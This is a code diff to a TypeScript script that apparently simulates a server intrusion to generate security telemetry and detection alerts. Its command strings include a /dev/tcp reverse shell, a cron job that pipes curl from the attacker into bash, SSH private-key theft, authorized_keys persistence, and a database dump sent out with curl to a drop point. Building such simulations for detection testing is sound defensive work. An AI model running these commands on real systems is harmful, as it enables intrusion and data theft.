@@ -47,81 +47,64 @@ function breakIn(stage: Stage, web: LinuxActor): LinuxProcess {
     parent: php,
     executable: '/usr/bin/dash',
     commandLine: 'sh -c id;uname -a',
-    alert: 'TBD',
+    alert: 'Web or application server starts a shell',
     workingDirectory: '/var/www/portal/upload/2024',
   });
   web.start({ parent: probe, executable: '/usr/bin/id', commandLine: 'id' });
   web.start({ parent: probe, executable: '/usr/bin/uname', commandLine: 'uname -a' });
   scene.wait(21);
   request(stage, web, '"POST /upload/2024/board_img.php HTTP/1.1" 504 0');
-  const starter = web.start({
+  const shell = web.start({
     parent: php,
     executable: '/usr/bin/dash',
-    commandLine: `sh -c bash -c 'bash -i >& /dev/tcp/${attacker}/4443 0>&1'`,
+    commandLine: `sh -c exec bash -i >& /dev/tcp/${attacker}/4443 0>&1`,
     workingDirectory: '/var/www/portal/upload/2024',
+    alert: 'One-line reverse shell',
   });
-  const shell = web.start({
-    parent: starter,
-    executable: '/usr/bin/bash',
-    commandLine: `bash -c bash -i >& /dev/tcp/${attacker}/4443 0>&1`,
-    alert: 'TBD',
-  });
-  web.connect(shell, { ip: attacker, port: 4443 });
-  return web.start({ parent: shell, executable: '/usr/bin/bash', commandLine: 'bash -i' });
+  const interactive = web.start({ parent: shell, executable: '/usr/bin/bash', commandLine: 'bash -i' });
+  web.connect(interactive, { ip: attacker, port: 4443, alert: 'Shell or temporary program connects to the internet' });
+  return interactive;
 }
 
 function lookAround({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): void {
-  const commands: [string, string][] = [
+  const commands: [string, string, string?][] = [
     ['/usr/bin/whoami', 'whoami'],
     ['/usr/bin/cat', 'cat /etc/passwd'],
     ['/usr/bin/ps', 'ps -ef --forest'],
     ['/usr/bin/ss', 'ss -tnlp'],
     ['/usr/bin/cat', 'cat /var/www/portal/config/database.php'],
     ['/usr/bin/find', 'find / -name id_* -path */.ssh/* -readable'],
-    ['/usr/bin/cat', 'cat /home/deploy/.ssh/id_ed25519'],
+    ['/usr/bin/cat', 'cat /home/deploy/.ssh/id_ed25519', 'Password file read or copied by a command'],
   ];
-  for (const [executable, commandLine] of commands) {
-    web.start({ parent: shell, executable, commandLine });
+  for (const [executable, commandLine, alert] of commands) {
+    web.start({ parent: shell, executable, commandLine, alert });
     scene.wait(scene.random.between(3, 9));
   }
 }
 
 function stay({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): void {
-  const line = `*/10 * * * * curl -fsS http://${attacker}:8081/u.sh | bash`;
+  const line = `17 * * * * curl -fsS http://${attacker}:8081/u.sh | bash`;
   const adding = web.start({
     parent: shell,
     executable: '/usr/bin/bash',
     commandLine: `bash -c (crontab -l; echo "${line}") | crontab -`,
-    alert: 'TBD',
+    alert: 'Scheduled job added',
   });
   web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -l' });
-  web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -' });
-  web.syslog({ facility: 'cron', program: 'crontab', pid: adding.pid + 3, message: '(www-data) REPLACE (www-data)' });
-  web.writeFile(adding, '/var/spool/cron/crontabs/www-data');
-  scene.wait(70);
-  const fetch = web.cron('www-data', `curl -fsS http://${attacker}:8081/u.sh | bash`);
-  const curl = web.start({
-    parent: fetch,
-    executable: '/usr/bin/curl',
-    commandLine: `curl -fsS http://${attacker}:8081/u.sh`,
-  });
-  web.connect(curl, { ip: attacker, port: 8081 });
+  const table = web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -' });
+  web.writeFile(table, '/var/spool/cron/crontabs/www-data');
+  web.syslog({ facility: 'cron', program: 'crontab', pid: table.pid, message: '(www-data) REPLACE (www-data)' });
+  scene.wait(9);
+  web.start({ parent: shell, executable: '/usr/bin/crontab', commandLine: 'crontab -l' });
 }
 
 function crossOver(stage: Stage, web: LinuxActor, shell: LinuxProcess): { database: LinuxActor; shell: LinuxProcess } {
   const { scene } = stage;
   const database = stage.linux('gd-db-01');
-  const copied = web.start({
-    parent: shell,
-    executable: '/usr/bin/cp',
-    commandLine: 'cp /home/deploy/.ssh/id_ed25519 /dev/shm/.k',
-  });
-  scene.wait(4);
-  web.start({ parent: copied.parent ?? shell, executable: '/usr/bin/chmod', commandLine: 'chmod 600 /dev/shm/.k' });
   const ssh = web.start({
     parent: shell,
     executable: '/usr/bin/ssh',
-    commandLine: 'ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /dev/shm/.k deploy@10.20.30.21',
+    commandLine: 'ssh -o StrictHostKeyChecking=no -i /home/deploy/.ssh/id_ed25519 deploy@10.20.30.21',
   });
   web.connect(ssh, { ip: '10.20.30.21', port: 22 });
   const session = database.sshLogin({ user: 'deploy', fromIp: web.machine.facts.ip });
@@ -135,17 +118,10 @@ function crossOver(stage: Stage, web: LinuxActor, shell: LinuxProcess): { databa
   scene.wait(6);
   database.start({ parent: remote, executable: '/usr/bin/sudo', commandLine: 'sudo -l' });
   scene.wait(11);
-  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInventedInventedInventedInventedInvented00 u@h';
-  const command = `/usr/bin/bash -c echo ${key} >> /root/.ssh/authorized_keys`;
-  database.sudo('deploy', command);
-  const root = database.start({
-    parent: remote,
-    executable: '/usr/bin/bash',
-    commandLine: `bash -c echo ${key} >> /root/.ssh/authorized_keys`,
-    user: 'root',
-    alert: 'TBD',
+  // `echo >> file` is the shell's own work: no process starts, only the file tells.
+  database.writeFile(remote, '/home/deploy/.ssh/authorized_keys', {
+    alert: 'Start-up or trust file changed by an unusual program',
   });
-  database.writeFile(root, '/root/.ssh/authorized_keys');
   return { database, shell: remote };
 }
 
@@ -153,29 +129,29 @@ function takeData({ scene }: Stage, { database, shell }: { database: LinuxActor;
   const dump = database.start({
     parent: shell,
     executable: '/usr/bin/pg_dump',
-    commandLine: 'pg_dump -h 127.0.0.1 -U portal -Fc portal -f /dev/shm/.p.dump',
+    commandLine: 'pg_dump -h 127.0.0.1 -U portal -Fc portal -f /home/deploy/.cache/p.dump',
   });
-  database.writeFile(dump, '/dev/shm/.p.dump');
+  database.writeFile(dump, '/home/deploy/.cache/p.dump');
   scene.wait(28);
   const tar = database.start({
     parent: shell,
     executable: '/usr/bin/tar',
-    commandLine: 'tar czf /dev/shm/.cache.tgz /dev/shm/.p.dump /srv/share/contracts',
+    commandLine: 'tar czf /home/deploy/.cache/c.tgz /home/deploy/.cache/p.dump /srv/share/contracts',
   });
-  database.writeFile(tar, '/dev/shm/.cache.tgz');
+  database.writeFile(tar, '/home/deploy/.cache/c.tgz');
   scene.wait(19);
   const curl = database.start({
     parent: shell,
     executable: '/usr/bin/curl',
-    commandLine: `curl -s -k -T /dev/shm/.cache.tgz https://${dropPoint}/up/`,
-    alert: 'TBD',
+    commandLine: `curl -s -k -T /home/deploy/.cache/c.tgz https://${dropPoint}/up/`,
+    alert: 'File sent out by command',
   });
   database.connect(curl, { ip: dropPoint, port: 443 });
   scene.wait(14);
   database.start({
     parent: shell,
     executable: '/usr/bin/rm',
-    commandLine: 'rm -f /dev/shm/.p.dump /dev/shm/.cache.tgz /home/deploy/.bash_history',
+    commandLine: 'rm -f /home/deploy/.cache/p.dump /home/deploy/.cache/c.tgz',
   });
-  database.deleteFile(shell, '/home/deploy/.bash_history');
+  database.deleteFile(shell, '/home/deploy/.cache/c.tgz');
 }
